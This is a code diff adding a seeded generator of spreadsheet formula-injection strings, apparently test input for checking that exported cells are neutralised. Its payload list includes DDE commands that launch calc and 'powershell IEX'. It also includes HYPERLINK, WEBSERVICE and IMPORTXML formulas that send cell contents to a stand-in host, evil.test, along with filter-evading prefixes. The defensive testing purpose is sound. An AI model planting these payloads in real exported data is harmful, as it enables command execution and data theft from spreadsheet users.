@@ -136,3 +136,41 @@ def hostile_urls(count: int) -> list[str]:
         chance.choice(starts) + "".join(chance.choice(parts) for _ in range(1 + number % 7))
         for number in range(count)
     ]
+
+
+FORMULAS = (
+    "1+1",
+    "cmd|' /C calc'!A0",
+    'HYPERLINK("https://evil.test/?"&A1,"open")',
+    'WEBSERVICE("https://evil.test/"&A2)',
+    "SUM(1;2)*cmd|' /C powershell IEX'!Z",
+    'IMPORTXML(CONCAT("https://evil.test/",A1),"//a")',
+    "DDE(0;0;1)",
+)
+FORMULA_STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
+FORMULA_LEADS = (
+    "",
+    " ",
+    "\t",
+    "\r",
+    "\n",
+    "\r\n",
+    "\u00a0",
+    "\u3000",
+    "\ufeff",
+    "\u200b",
+    "\x00",
+    '"',
+    '",',
+    ";",
+    "'",
+)
+
+
+def formulas(count: int) -> list[str]:
+    """That many cells that spreadsheets would compute, or that try to end their quotes and start one."""
+    chance = random.Random(13)
+    every = [
+        lead + start + formula for start in FORMULA_STARTS for lead in FORMULA_LEADS for formula in FORMULAS
+    ]
+    return chance.sample(every, min(count, len(every)))
